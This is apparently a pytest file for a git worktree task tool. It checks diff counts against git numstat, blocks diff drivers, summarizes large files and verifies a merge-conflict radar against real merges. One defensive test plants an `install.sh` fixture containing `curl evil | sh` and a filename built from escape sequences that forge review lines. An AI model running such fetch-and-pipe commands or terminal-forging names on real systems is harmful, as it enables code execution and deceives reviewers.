"""Review and the conflict radar against git's own answers: the +/- counts are exactly
`git diff --numstat -M`, every kind of change is named, no diff driver runs, and the radar says
what a real `git merge` of each pair says. Also the target and base a new task gets."""

from __future__ import annotations

import json
import os
import subprocess
from itertools import combinations
from pathlib import Path

import pytest

from tests.conftest import git


def review(cli, name: str, *extra: str) -> dict:  # type: ignore[no-untyped-def]
    found = cli("review", name, "--json", *extra)
    assert found.code == 0, found.err
    return json.loads(found.out)


@pytest.fixture
def varied(repo: Path, cli) -> Path:  # type: ignore[no-untyped-def]
    """A task whose commits add, modify, delete, rename (with an edit), change a mode, add a
    binary and a submodule link, plus uncommitted and untracked files."""
    (repo / "old-name.txt").write_text("".join(f"line {i}\n" for i in range(40)))
    (repo / "gone.txt").write_text("bye\n")
    (repo / "script.sh").write_text("echo hi\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base files")
    assert cli("new", "v", "--no-start").code == 0
    w = repo / ".worktrees" / "v"
    git(w, "mv", "old-name.txt", "new-name.txt")
    with open(w / "new-name.txt", "a") as f:
        f.write("one more line\n")
    git(w, "rm", "-q", "gone.txt")
    os.chmod(w / "script.sh", 0o755)
    (w / "added.txt").write_text("a\nb\nc\n")
    (w / "README.md").write_text("hello\nchanged\n")
    (w / "blob.bin").write_bytes(bytes(range(256)) * 4)
    git(w, "add", "-A")
    head = git(repo, "rev-parse", "HEAD")
    git(w, "update-index", "--add", "--cacheinfo", f"160000,{head},vendor/lib")
    (w / "vendor" / "lib").mkdir(parents=True)  # as a submodule not checked out looks
    git(w, "commit", "-q", "-m", "many kinds of change")
    git(w, "commit", "-q", "--allow-empty", "-m", "second commit")
    (w / "added.txt").write_text("uncommitted edit\n")
    (w / "loose.txt").write_text("untracked\n")
    return w


def test_counts_and_statuses_agree_with_git_diff_numstat(repo: Path, cli, varied: Path) -> None:  # type: ignore[no-untyped-def]
    doc = review(cli, "v")
    base, tip = doc["merge_base"], doc["tip"]
    numstat = git(repo, "diff", "--numstat", "-M", base, tip).splitlines()
    expected = {}
    for line in numstat:
        added, removed, path = line.split("\t", 2)
        if " => " in path:
            path = path.replace("{", "").replace("}", "").split(" => ")[-1]
        expected[path] = (
            None if added == "-" else int(added),
            None if removed == "-" else int(removed),
        )
    seen = {f["path"]: (f["added"], f["removed"]) for f in doc["files"]}
    assert seen == expected
    by_path = {f["path"]: f for f in doc["files"]}
    assert by_path["new-name.txt"]["status"] == "renamed"
    assert by_path["new-name.txt"]["old_path"] == "old-name.txt"
    assert 50 <= by_path["new-name.txt"]["similarity"] < 100
    assert by_path["gone.txt"]["status"] == "deleted"
    assert by_path["added.txt"]["status"] == "added"
    assert by_path["script.sh"]["mode_changed"] and by_path["script.sh"]["new_mode"] == "100755"
    assert by_path["blob.bin"]["binary"] and by_path["blob.bin"]["added"] is None
    assert by_path["vendor/lib"]["submodule"]
    assert [c["subject"] for c in doc["commits"]] == ["second commit", "many kinds of change"]
    assert {c["author"] for c in doc["commits"]} == {"Test Operator"}
    assert doc["ahead"] == 2 and doc["behind"] == 0
    assert doc["uncommitted"] == [{"path": "added.txt", "code": ".M"}]
    assert doc["untracked"] == ["loose.txt"]


def test_patch_never_runs_external_diff_or_textconv_and_summarizes_binaries(
    repo: Path, cli, varied: Path, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    marker = tmp_path / "driver-ran"
    driver = tmp_path / "driver.sh"
    driver.write_text(f'#!/bin/sh\ntouch {marker}\ncat "$1"\n')
    driver.chmod(0o755)
    git(repo, "config", "diff.external", str(driver))
    git(repo, "config", "diff.tc.textconv", str(driver))
    (varied / ".gitattributes").write_text("*.txt diff=tc\n")
    git(varied, "add", ".gitattributes")
    git(varied, "commit", "-q", "-m", "attributes")
    text = cli("review", "v", "--patch")
    assert text.code == 0, text.err
    assert not marker.exists()
    assert "+one more line" in text.out  # a plain unified diff of the text
    assert "binary file blob.bin added (not shown)" in text.out
    assert "submodule vendor/lib changed (not shown)" in text.out
    doc = review(cli, "v", "--patch")
    by_path = {f["path"]: f for f in doc["files"]}
    assert by_path["blob.bin"]["patch"] is None and "binary" in by_path["blob.bin"]["summary"]
    assert by_path["new-name.txt"]["patch"].startswith("diff --git a/old-name.txt")
    assert not marker.exists()


def test_a_huge_file_is_summarized_not_dumped(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    assert cli("new", "h", "--no-start").code == 0
    w = repo / ".worktrees" / "h"
    (w / "huge.txt").write_text("".join(f"{i}\n" for i in range(6000)))
    (w / "small.txt").write_text("small\n")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "huge")
    text = cli("review", "h", "--patch")
    assert "huge.txt: 6000 lines changed, too many to show here" in text.out
    assert "+small" in text.out and "+5999" not in text.out
    single = cli("review", "h", "--file", "small.txt")
    assert single.code == 0 and "+small" in single.out and "huge" not in single.out


def test_a_file_name_with_pathspec_magic_is_taken_literally(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    assert cli("new", "m", "--no-start").code == 0
    w = repo / ".worktrees" / "m"
    (w / "*.txt").write_text("star\n")
    (w / "other.txt").write_text("other\n")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "magic")
    one = cli("review", "m", "--file", "*.txt")
    assert "+star" in one.out and "+other" not in one.out


def test_review_results_are_cached_by_merge_base_and_tip(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    import sqlite3

    assert cli("new", "c", "--no-start").code == 0
    w = repo / ".worktrees" / "c"
    (w / "a.txt").write_text("a\n")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "one")
    first = review(cli, "c")
    ledger = Path(os.environ["LANEBOARD_HOME"]) / "ledger.sqlite3"
    with sqlite3.connect(ledger) as db:
        rows = db.execute("SELECT base, tip FROM reviews").fetchall()
    assert rows == [(first["merge_base"], first["tip"])]
    assert review(cli, "c")["files"] == first["files"]  # served from the cache
    (w / "b.txt").write_text("b\n")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "two")
    assert len(review(cli, "c")["files"]) == 2  # a new tip is a new key
    with sqlite3.connect(ledger) as db:
        assert db.execute("SELECT count(*) FROM reviews").fetchone()[0] == 2


# --- target and base -----------------------------------------------------------------------


def test_a_new_task_targets_the_integration_branch_and_starts_at_its_tip(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    main = git(repo, "rev-parse", "main")
    git(repo, "switch", "-q", "-c", "elsewhere")
    (repo / "e.txt").write_text("e\n")
    git(repo, "add", "e.txt")
    git(repo, "commit", "-q", "-m", "on another branch")
    (repo / ".laneboard.toml").write_text('target = "main"\n')
    assert cli("new", "t", "--no-start").code == 0
    task = json.loads(cli("show", "t", "--json").out)
    assert (task["target"], task["base_sha"]) == ("main", main)
    assert "lb/t/work → main" in cli("show", "t").out
    assert "main" in cli("ls").out

    here = git(repo, "rev-parse", "HEAD")
    assert cli("new", "h", "--no-start", "--base", "HEAD").code == 0
    assert json.loads(cli("show", "h", "--json").out)["base_sha"] == here

    git(repo, "branch", "release", main)
    assert cli("new", "r", "--no-start", "--target", "release").code == 0
    assert json.loads(cli("show", "r", "--json").out)["target"] == "release"


def test_a_missing_target_branch_is_refused_changing_nothing(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    refused = cli("new", "x", "--no-start", "--target", "nope")
    assert refused.code == 1 and "'nope' is not a local branch" in refused.err
    assert cli("ls").out.startswith("no tasks")
    assert git(repo, "branch", "--list", "lb/*") == ""


def test_origin_head_names_the_default_target(repo: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(repo, "branch", "trunk")
    git(repo, "remote", "add", "origin", str(remote))
    git(repo, "push", "-q", "origin", "trunk")
    git(repo, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/trunk")
    assert cli("new", "o", "--no-start").code == 0
    assert json.loads(cli("show", "o", "--json").out)["target"] == "trunk"


# --- the radar ---------------------------------------------------------------------------------


def _real_merge(repo: Path, tmp_path: Path, ours: str, theirs: str) -> tuple[bool, set[str]]:
    """What `git merge` says, in a throwaway clone (the repo itself is never touched)."""
    clone = tmp_path / f"clone-{ours[:8]}-{theirs[:8]}"
    if not clone.exists():
        git(tmp_path, "clone", "-q", "--no-checkout", str(repo), str(clone))
    git(clone, "checkout", "-q", "--detach", ours)
    done = subprocess.run(
        ["git", "merge", "--no-edit", "-q", theirs], cwd=clone, capture_output=True, text=True
    )
    conflicted = set(git(clone, "diff", "--name-only", "--diff-filter=U").splitlines())
    git(clone, "merge", "--abort", check=False)
    return done.returncode == 0, conflicted


def test_the_radar_agrees_with_a_real_merge_of_every_pair(repo: Path, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    (repo / "shared.txt").write_text("".join(f"{i}\n" for i in range(30)))
    (repo / "other.txt").write_text("x\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "files to fight over")
    edits = {
        "top": {"shared.txt": "TOP\n" + "".join(f"{i}\n" for i in range(1, 30))},
        "top2": {"shared.txt": "OTHER TOP\n" + "".join(f"{i}\n" for i in range(1, 30))},
        "bottom": {"shared.txt": "".join(f"{i}\n" for i in range(29)) + "BOTTOM\n"},
        "gone": {"other.txt": None},
        "edit": {"other.txt": "edited\n"},
        "new": {"fresh.txt": "fresh\n"},
    }
    for name, files in edits.items():
        assert cli("new", name, "--no-start").code == 0
        w = repo / ".worktrees" / name
        for path, content in files.items():
            if content is None:
                git(w, "rm", "-q", path)
            else:
                (w / path).write_text(content)
        git(w, "add", "-A")
        git(w, "commit", "-q", "-m", name)
    (repo / "other.txt").write_text("main changed it\n")
    git(repo, "commit", "-q", "-am", "main edits other.txt")

    # Every task starts on the same commit and main moved only after: each pair's own work is
    # exactly what a merge of their tips holds, so git's merge of the tips is the answer.
    doc = json.loads(cli("conflicts", "--json").out)
    overlaps = doc["repos"][0]["overlaps"]
    tips = {n: git(repo, "rev-parse", f"lb/{n}/work") for n in edits}
    pairs = {(o["task"], o["other"]): o for o in overlaps}
    assert len(overlaps) == len(edits) + len(list(combinations(edits, 2)))
    main = git(repo, "rev-parse", "main")
    for name in edits:
        clean, files = _real_merge(repo, tmp_path, main, tips[name])
        found = pairs[(name, None)]
        assert (found["clean"], set(found["files"])) == (clean, files), name
    for a, b in combinations(edits, 2):
        clean, files = _real_merge(repo, tmp_path, tips[a], tips[b])
        found = pairs[(a, b)]
        assert (found["clean"], set(found["files"])) == (clean, files), (a, b)
    assert not pairs[("top", "top2")]["clean"] and pairs[("top", "bottom")]["clean"]
    text = cli("conflicts").out
    assert "top <-> top2: conflict in shared.txt" in text
    assert "edit <-> target main: conflict in other.txt" in text


def test_the_radar_touches_no_checkout_and_reuses_its_cache(repo: Path, cli) -> None:  # type: ignore[no-untyped-def]
    import sqlite3

    for name in ("a", "b"):
        assert cli("new", name, "--no-start").code == 0
        w = repo / ".worktrees" / name
        (w / "README.md").write_text(f"{name}\n")
        git(w, "commit", "-q", "-am", name)
    before = {
        p: git(p, "status", "--porcelain=v2") for p in (repo, *(repo / ".worktrees").iterdir())
    }
    refs = git(repo, "for-each-ref")
    assert cli("conflicts").code == 0
    ledger = Path(os.environ["LANEBOARD_HOME"]) / "ledger.sqlite3"
    with sqlite3.connect(ledger) as db:
        cached = db.execute("SELECT count(*) FROM merges").fetchone()[0]
    assert cached == 3
    assert cli("conflicts").code == 0
    with sqlite3.connect(ledger) as db:
        assert db.execute("SELECT count(*) FROM merges").fetchone()[0] == 3
    assert git(repo, "for-each-ref") == refs
    assert {p: git(p, "status", "--porcelain=v2") for p in before} == before


def test_control_characters_in_names_and_subjects_cannot_forge_review_lines(
    repo: Path, cli
) -> None:  # type: ignore[no-untyped-def]
    assert cli("new", "x", "--no-start").code == 0
    w = repo / ".worktrees" / "x"
    (w / "install.sh").write_text("curl evil | sh\n")
    forged = "zz\r\x1b[1A\x1b[2Kfiles:       1 changed, +1 -0\n  M    +1 -0         typo.md"
    (w / forged).write_text("x\n")
    git(w, "add", "-A")
    git(w, "commit", "-q", "-m", "fix typo\x1b[2K")
    out = cli("review", "x").out
    assert "\x1b" not in out and "\r" not in out
    assert "install.sh" in out and "2 changed" in out
    assert "\\x1b[1A" in out and "\\r" in out
